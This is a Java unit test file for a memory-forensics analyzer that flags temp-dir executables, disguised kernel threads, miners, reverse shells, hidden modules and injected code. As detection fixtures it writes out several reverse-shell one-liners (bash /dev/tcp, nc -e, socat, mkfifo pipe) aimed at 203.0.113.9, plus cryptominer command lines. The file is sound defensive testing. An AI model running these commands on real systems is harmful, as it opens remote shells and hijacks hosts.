package io.custody.analyzer.memory;

import static org.assertj.core.api.Assertions.assertThat;

import io.custody.analyzer.memory.KernelView.Module;
import io.custody.analyzer.memory.KernelView.Proc;
import io.custody.analyzer.memory.KernelView.Region;
import io.custody.analyzer.memory.KernelView.Sock;
import io.custody.analyzer.memory.MemoryReport.Finding;
import io.custody.evidence.Severity;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * The kernel-view rules on views made here, shaped as Volatility 3 reports a Debian host: each rule
 * fires on the planted case with its rule id, severity and "pid N (comm)", and stays quiet on what a
 * clean host shows (kernel threads, daemons, shells on UNIX sockets and terminals, programs that only
 * read files under /tmp).
 */
class KernelFindingsTest {

  /** A clean host: init, kthreadd and kernel threads, daemons, a login shell, a zombie, a tmux with its socket under /tmp. */
  static List<Proc> cleanHost() {
    List<Proc> p = new ArrayList<>();
    p.add(user(1, 0, "systemd", "/sbin/init", "/usr/lib/systemd/systemd"));
    p.add(kthread(2, 0, "kthreadd"));
    p.add(kthread(3, 2, "rcu_gp"));
    p.add(kthread(14, 2, "kworker/0:1"));
    p.add(kthread(15, 2, "ksoftirqd/0"));
    p.add(user(412, 1, "systemd-journal", "/lib/systemd/systemd-journald", "/usr/lib/systemd/systemd-journald"));
    p.add(user(590, 1, "sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "/usr/sbin/sshd"));
    p.add(user(601, 1, "amazon-ssm-agen", "/usr/bin/amazon-ssm-agent", "/usr/bin/amazon-ssm-agent"));
    p.add(user(1200, 590, "sshd", "sshd: admin@pts/0", "/usr/sbin/sshd"));
    p.add(user(1210, 1200, "bash", "-bash", "/usr/bin/bash"));
    p.add(user(1250, 1210, "tail", "tail -f /tmp/app.log", "/usr/bin/tail"));
    p.add(user(1260, 1210, "tmux: server", "tmux -S /tmp/tmux-1000/default new -d", "/usr/bin/tmux"));
    p.add(user(1270, 1, "ssh-agent", "ssh-agent -a /tmp/ssh-XXXXabcd/agent.1269", "/usr/bin/ssh-agent"));
    p.add(user(1280, 1210, "python3", "python3 -m http.server 8000", "/usr/bin/python3.11"));
    p.add(user(1290, 1210, "nc", "nc -zv 10.0.0.5 22", "/usr/bin/nc.openbsd"));
    p.add(user(1291, 1210, "nc", "nc -l -p 4445", "/usr/bin/nc.openbsd"));
    p.add(user(1300, 1, "cron", "/usr/sbin/cron -f", "/usr/sbin/cron"));
    // an exited child its parent has not reaped: no address space left, so psaux shows [comm] and it has no maps
    p.add(user(1310, 1300, "sh", "[sh]", null));
    p.add(user(1320, 1, "mysqld", "/usr/sbin/mysqld --socket=/tmp/mysql.sock --tmpdir=/tmp", "/usr/sbin/mysqld"));
    p.add(user(1330, 1210, "rsync", "rsync -e ssh -a /srv/ backup:/srv/", "/usr/bin/rsync"));
    return p;
  }

  static List<Sock> cleanSockets() {
    return List.of(
        new Sock(590, "sshd", 3L, "AF_INET", "STREAM", "TCP", "0.0.0.0", "22", "0.0.0.0", "0", "LISTEN"),
        new Sock(1200, "sshd", 4L, "AF_INET", "STREAM", "TCP", "10.0.1.12", "22", "198.51.100.4", "50122", "ESTABLISHED"),
        new Sock(601, "amazon-ssm-agen", 9L, "AF_INET", "STREAM", "TCP", "10.0.1.12", "41222", "52.94.1.10", "443", "ESTABLISHED"),
        // a shell with UNIX sockets only (its history, a systemd notify socket), and one listening
        new Sock(1210, "bash", 3L, "AF_UNIX", "STREAM", null, "/run/user/1000/bus", null, null, null, "ESTABLISHED"),
        new Sock(1210, "bash", 5L, "AF_INET", "STREAM", "TCP", "0.0.0.0", "8080", "0.0.0.0", "0", "LISTEN"),
        new Sock(1291, "nc", 3L, "AF_INET", "STREAM", "TCP", "0.0.0.0", "4445", "0.0.0.0", "0", "LISTEN"));
  }

  static Proc user(long pid, long ppid, String comm, String args, String exe) {
    return new Proc(pid, ppid, comm, args, 0L, "2026-01-01T00:00:00+00:00", exe, KernelView.isKernelThread(pid, ppid, args), null);
  }

  static Proc kthread(long pid, long ppid, String comm) {
    return user(pid, ppid, comm, "[" + comm + "]", null);
  }

  static KernelView view(List<Proc> procs, List<Sock> socks, List<Module> modules, List<Region> malfind) {
    return new KernelView("item-sym", "2.26.2", "ok", null, List.of(), procs, socks, modules, malfind, List.of(), List.of());
  }

  static KernelView with(Proc... more) {
    List<Proc> p = cleanHost();
    p.addAll(List.of(more));
    return view(p, cleanSockets(), List.of(), List.of());
  }

  static List<String> rules(List<Finding> fs) {
    return fs.stream().map(f -> f.ruleId() + " " + f.address()).toList();
  }

  @Test
  void of_cleanHost_noFindings() {
    KernelView v = view(cleanHost(), cleanSockets(), List.of(new Module("ext4", "0xffffffffc0400000", 1_000_000L, false, "lsmod")), List.of());
    assertThat(KernelFindings.of(v, Map.of("203.0.113.9", "in CloudTrail"))).isEmpty();
    assertThat(KernelFindings.suspicious(v)).isEmpty();
  }

  @Test
  void of_executableInATempDir_highNamingThePid() {
    List<Finding> fs = KernelFindings.of(with(user(2001, 1, "kdevtmpfsi", "kdevtmpfsi", "/dev/shm/.k/kdevtmpfsi"),
        user(2002, 1, "x", "./x", "/var/tmp/x"), user(2003, 1, "y", "y", "/tmp/y (deleted)")), Map.of());
    assertThat(fs).filteredOn(f -> f.ruleId().equals("memory-process-from-temp-dir")).extracting(Finding::address)
        .containsExactly("pid 2001 (kdevtmpfsi)", "pid 2002 (x)", "pid 2003 (y)");
    assertThat(fs).filteredOn(f -> f.ruleId().equals("memory-process-from-temp-dir")).allSatisfy(f -> {
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.reason()).contains("(its executable, linux.proc.Maps)");
    });
    // a temp dir's name elsewhere in the path is not one
    assertThat(KernelFindings.of(with(user(2004, 1, "a", "a", "/opt/tmp/a"), user(2005, 1, "b", "b", "/home/u/var/tmp/b")), Map.of())).isEmpty();
  }

  @Test
  void of_interpreterRunningAScriptFromATempDir_high() {
    List<Finding> fs = KernelFindings.of(with(user(2010, 1210, "python3", "python3 -u /tmp/.cache/agent.py --beacon 60", "/usr/bin/python3.11"),
        user(2011, 1, "bash", "/bin/bash /var/tmp/install.sh", "/usr/bin/bash"),
        user(2012, 1, "perl", "perl -w /dev/shm/p.pl", "/usr/bin/perl"),
        // the dynamic loader runs a program from a noexec mount: the program is its argument
        user(2013, 1, "ld-linux-x86-64", "/lib64/ld-linux-x86-64.so.2 /dev/shm/miner", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2")), Map.of());
    assertThat(rules(fs)).containsExactly("memory-process-from-temp-dir pid 2010 (python3)", "memory-process-from-temp-dir pid 2011 (bash)",
        "memory-process-from-temp-dir pid 2012 (perl)", "memory-process-from-temp-dir pid 2013 (ld-linux-x86-64)");
    assertThat(fs.get(0).reason()).contains("runs /tmp/.cache/agent.py (its script)");
  }

  @Test
  void of_programsThatOnlyNameFilesUnderTmp_noFinding() {
    // a file argument is not a script: tail, tmux's socket, ssh-agent's, an editor, cp (cleanHost has the first three)
    assertThat(KernelFindings.of(with(user(2020, 1210, "vim", "vim /tmp/notes.txt", "/usr/bin/vim.basic"),
        user(2021, 1210, "cp", "cp /tmp/a.tar /srv/", "/usr/bin/cp")), Map.of())).isEmpty();
  }

  @Test
  void of_deletedExecutable_high() {
    List<Finding> fs = KernelFindings.of(with(user(2030, 1, "sshd", "/usr/sbin/sshd -D", "/usr/sbin/sshd (deleted)")), Map.of());
    assertThat(fs).singleElement().satisfies(f -> {
      assertThat(f.ruleId()).isEqualTo("memory-process-exe-deleted");
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.address()).isEqualTo("pid 2030 (sshd)");
      assertThat(f.excerpt()).isEqualTo("/usr/sbin/sshd (deleted)");
    });
  }

  @Test
  void of_userProcessCallingItselfAKernelThread_disguisedHigh() {
    // exec -a '[kworker/0:1]' /var/tmp/.x/miner: argv is the kernel thread's name, comm and the mapped executable are not
    List<Finding> fs = KernelFindings.of(with(user(2040, 1, "miner", "[kworker/0:1]", "/usr/local/bin/miner"),
        // comm set too (prctl PR_SET_NAME), but it has an address space and an executable
        user(2041, 1, "kworker/1:2", "[kworker/1:2]", "/usr/lib/kworker")), Map.of());
    assertThat(rules(fs)).containsExactly("memory-process-disguised pid 2040 (miner)", "memory-process-disguised pid 2041 (kworker/1:2)");
    assertThat(fs.get(0).severity()).isEqualTo(Severity.HIGH);
    assertThat(fs.get(0).reason()).contains("calls itself '[kworker/0:1]'");
  }

  @Test
  void of_kernelThreadsAndUnreapedChildren_notDisguised() {
    // cleanHost holds kthreadd's children and a zombie [sh]; also a kernel thread whose parent is 0 besides kthreadd
    assertThat(KernelFindings.of(with(kthread(16, 0, "kthreadd_other"), user(2050, 1210, "curl", "[curl]", null)), Map.of())).isEmpty();
  }

  @Test
  void of_minerCommandLines_high() {
    String wallet = "4" + "A" + "1".repeat(93);
    List<Finding> fs = KernelFindings.of(with(user(2060, 1, "xmrig", "xmrig --donate-level 1 -o pool.example:3333", "/opt/x/xmrig"),
        user(2061, 1, "systemd-udev", "sysupdate -o stratum+tcp://203.0.113.9:3333 -u " + wallet, "/usr/bin/sysupdate"),
        user(2062, 1, "cpuminer", "minerd --algo=cryptonight -o x", "/usr/bin/minerd")), Map.of());
    assertThat(rules(fs)).containsExactly("memory-miner-command-line pid 2060 (xmrig)", "memory-miner-command-line pid 2061 (systemd-udev)",
        "memory-miner-command-line pid 2062 (cpuminer)");
    assertThat(fs).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.HIGH));
    // a word that only contains a miner's name is not one
    assertThat(KernelFindings.of(with(user(2063, 1, "unxmrigged", "/usr/bin/unxmrigged --help", "/usr/bin/unxmrigged")), Map.of())).isEmpty();
  }

  @Test
  void of_reverseShellCommandLines_critical() {
    List<Finding> fs = KernelFindings.of(with(user(2070, 1, "bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/usr/bin/bash"),
        user(2071, 1, "nc", "nc -e /bin/sh 203.0.113.9 4444", "/usr/bin/nc.traditional"),
        user(2072, 1, "nc", "nc 203.0.113.9 4444 -lvpe /bin/bash", "/usr/bin/nc.traditional"),
        user(2073, 1, "python3", "python3 -c import pty;pty.spawn(\"/bin/bash\")", "/usr/bin/python3.11"),
        user(2074, 1, "socat", "socat tcp:203.0.113.9:4444 exec:/bin/sh,pty", "/usr/bin/socat"),
        user(2075, 1, "sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f", "/usr/bin/dash")), Map.of());
    assertThat(fs).filteredOn(f -> f.ruleId().equals("memory-reverse-shell")).extracting(Finding::address)
        .containsExactly("pid 2070 (bash)", "pid 2071 (nc)", "pid 2072 (nc)", "pid 2073 (python3)", "pid 2074 (socat)", "pid 2075 (sh)");
    assertThat(fs).filteredOn(f -> f.ruleId().equals("memory-reverse-shell")).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.CRITICAL));
  }

  @Test
  void of_shellHoldingAConnection_criticalOncePerShell() {
    List<Sock> socks = new ArrayList<>(cleanSockets());
    socks.add(new Sock(2080, "bash", 0L, "AF_INET", "STREAM", "TCP", "10.0.1.12", "51000", "203.0.113.9", "4445", "ESTABLISHED"));
    socks.add(new Sock(2080, "bash", 1L, "AF_INET", "STREAM", "TCP", "10.0.1.12", "51000", "203.0.113.9", "4445", "ESTABLISHED"));
    socks.add(new Sock(2080, "bash", 2L, "AF_INET", "STREAM", "TCP", "10.0.1.12", "51000", "203.0.113.9", "4445", "ESTABLISHED"));
    // a shell's connection being set up or closed is not one it holds
    socks.add(new Sock(2081, "sh", 3L, "AF_INET", "STREAM", "TCP", "10.0.1.12", "51001", "203.0.113.10", "80", "TIME_WAIT"));
    List<Proc> procs = cleanHost();
    procs.add(user(2080, 1, "bash", "bash -i", "/usr/bin/bash"));
    procs.add(user(2081, 1, "sh", "sh", "/usr/bin/dash"));
    List<Finding> fs = KernelFindings.of(view(procs, socks, List.of(), List.of()), Map.of());
    assertThat(fs).singleElement().satisfies(f -> {
      assertThat(f.ruleId()).isEqualTo("memory-reverse-shell");
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.address()).isEqualTo("pid 2080 (bash)");
      assertThat(f.excerpt()).isEqualTo("203.0.113.9:4445");
      assertThat(f.reason()).contains("on its standard input");
    });
    assertThat(KernelFindings.suspicious(view(procs, socks, List.of(), List.of()))).containsExactly(2080L);
  }

  @Test
  void of_shellScriptWithAConnectionOnItsOwnDescriptor_highNotAReverseShell() {
    // the lab's miner: a bash script that opened exec 3<>/dev/tcp/… to its pool, its stdio elsewhere
    List<Sock> socks = new ArrayList<>(cleanSockets());
    socks.add(new Sock(2090, "bash", 3L, "AF_INET", "STREAM", "TCP", "127.0.0.1", "38480", "127.0.0.1", "3333", "ESTABLISHED"));
    List<Proc> procs = cleanHost();
    procs.add(user(2090, 1, "bash", "bash /opt/app/poll.sh", "/usr/bin/bash"));
    List<Finding> fs = KernelFindings.of(view(procs, socks, List.of(), List.of()), Map.of());
    assertThat(fs).singleElement().satisfies(f -> {
      assertThat(f.ruleId()).isEqualTo("memory-shell-network-connection");
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.address()).isEqualTo("pid 2090 (bash)");
      assertThat(f.reason()).contains("on descriptor 3");
    });
  }

  @Test
  void of_connectionWithACaseAddress_highEitherEnd() {
    List<Sock> socks = new ArrayList<>(cleanSockets());
    socks.add(new Sock(601, "amazon-ssm-agen", 11L, "AF_INET6", "STREAM", "TCP", "2001:db8::12", "41300", "2001:db8::bad", "443", "ESTABLISHED"));
    socks.add(new Sock(590, "sshd", 7L, "AF_INET", "STREAM", "TCP", "10.0.1.12", "22", "198.51.100.77", "60001", "ESTABLISHED"));
    List<Finding> fs = KernelFindings.of(view(cleanHost(), socks, List.of(), List.of()),
        Map.of("2001:db8::bad", "in CloudTrail as the source of ConsoleLogin", "198.51.100.77", "in VPC flow logs"));
    assertThat(rules(fs)).containsExactly("memory-connection-to-case-address pid 601 (amazon-ssm-agen)",
        "memory-connection-to-case-address pid 590 (sshd)");
    assertThat(fs.get(0).excerpt()).isEqualTo("2001:db8::bad");
    assertThat(fs.get(0).reason()).contains("seen in CloudTrail as the source of ConsoleLogin");
    assertThat(fs).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.HIGH));
    // a UNIX socket's path is no address
    List<Finding> unix = KernelFindings.of(view(cleanHost(), cleanSockets(), List.of(), List.of()), Map.of("/run/user/1000/bus", "x"));
    assertThat(unix).isEmpty();
  }

  @Test
  void of_hiddenModuleAndInjectedCode_criticalAndHigh() {
    List<Module> modules = List.of(new Module("ext4", "0xffffffffc0400000", 1_000_000L, false, "lsmod"),
        new Module("custody_hideme", "0xffffffffc0a00000", null, true, "check_modules (in /sys/module, not in the module list)"));
    List<Region> malfind = List.of(new Region(1320, "mysqld", "0x7f0000000000", "0x7f0000001fff", "PAGE_EXECUTE_READWRITE", null,
        "fc 48 83 e4 f0 e8 c0 00 00 00 ".repeat(40)));
    List<Finding> fs = KernelFindings.of(view(cleanHost(), cleanSockets(), modules, malfind), Map.of());
    assertThat(rules(fs)).containsExactly("memory-hidden-module module custody_hideme at 0xffffffffc0a00000",
        "memory-injected-code pid 1320 (mysqld) 0x7f0000000000-0x7f0000001fff");
    assertThat(fs.get(0).severity()).isEqualTo(Severity.CRITICAL);
    assertThat(fs.get(1).severity()).isEqualTo(Severity.HIGH);
    assertThat(fs.get(1).excerpt()).hasSize(200);
    // an injected region names its process: its environment is worth reading
    assertThat(KernelFindings.suspicious(view(cleanHost(), cleanSockets(), modules, malfind))).containsExactly(1320L);
  }

  @Test
  void of_volatilityFailedOrSkipped_oneMediumOrNothing() {
    KernelView failed = new KernelView("item-sym", "2.26.2", "failed", "Volatility could not walk the process list: UnsatisfiedException",
        List.of(), List.of(), List.of(), List.of(), List.of(), List.of(), List.of());
    assertThat(KernelFindings.of(failed, Map.of())).singleElement().satisfies(f -> {
      assertThat(f.ruleId()).isEqualTo("memory-volatility-failed");
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.reason()).contains("UnsatisfiedException", "--retry");
    });
    assertThat(KernelFindings.of(KernelView.skipped(null, "no symbols"), Map.of())).isEmpty();
    assertThat(KernelFindings.of(null, Map.of())).isEmpty();
    assertThat(KernelFindings.worst(KernelFindings.of(failed, Map.of()))).isEqualTo(Severity.MEDIUM);
    assertThat(KernelFindings.worst(List.of())).isNull();
  }

  @Test
  void firstPathArg_theFirstArgumentAfterOptionsWhenItIsAPath() {
    assertThat(KernelFindings.firstPathArg("python3 /tmp/x.py a b")).isEqualTo("/tmp/x.py");
    assertThat(KernelFindings.firstPathArg("python3 -u -B /tmp/x.py")).isEqualTo("/tmp/x.py");
    assertThat(KernelFindings.firstPathArg("  bash   /var/tmp/s.sh  ")).isEqualTo("/var/tmp/s.sh");
    assertThat(KernelFindings.firstPathArg("python3 -m http.server /tmp")).isNull(); // a non-option, non-path argument ends the search
    assertThat(KernelFindings.firstPathArg("python3 x.py /tmp/y")).isNull();
    assertThat(KernelFindings.firstPathArg("/tmp/x")).isNull(); // the program itself is not its argument
    assertThat(KernelFindings.firstPathArg("sh -c")).isNull();
    assertThat(KernelFindings.firstPathArg("")).isNull();
    assertThat(KernelFindings.firstPathArg(null)).isNull();
  }

  @Test
  void isKernelThread_kthreaddItsChildrenAndBracketedOrphans() {
    assertThat(KernelView.isKernelThread(2, 0, "[kthreadd]")).isTrue();
    assertThat(KernelView.isKernelThread(14, 2, "[kworker/0:1]")).isTrue();
    assertThat(KernelView.isKernelThread(14, 2, null)).isTrue(); // psaux could not read it: kthreadd's child all the same
    assertThat(KernelView.isKernelThread(16, 0, "[kthreadd_other]")).isTrue();
    assertThat(KernelView.isKernelThread(1, 0, "[systemd]")).isFalse(); // init is never one
    assertThat(KernelView.isKernelThread(1, 0, "/sbin/init")).isFalse();
    assertThat(KernelView.isKernelThread(16, 0, "/usr/bin/x")).isFalse();
    assertThat(KernelView.isKernelThread(16, 0, null)).isFalse();
    assertThat(KernelView.isKernelThread(2040, 1, "[kworker/0:1]")).isFalse(); // a user process's disguise
    assertThat(KernelView.isKernelThread(2050, 1210, "[curl]")).isFalse(); // a zombie: a user process that exited
  }

  @Test
  void isKernelThread_userModeHelperOfKthreadd_isAUserProcessWhoseFindingsCount() {
    // the kernel starts user-mode helpers (modprobe, a core_pattern pipe) as children of kthreadd, with an address
    // space and a command line: a core_pattern of |/tmp/x runs /tmp/x that way
    assertThat(KernelView.isKernelThread(3001, 2, "/sbin/modprobe -q -- net-pf-10")).isFalse();
    Proc helper = user(3002, 2, "x", "/tmp/x 3002 11", "/tmp/x");
    assertThat(helper.kernelThread()).isFalse();
    assertThat(rules(KernelFindings.of(with(helper), Map.of()))).containsExactly("memory-process-from-temp-dir pid 3002 (x)");
  }
}
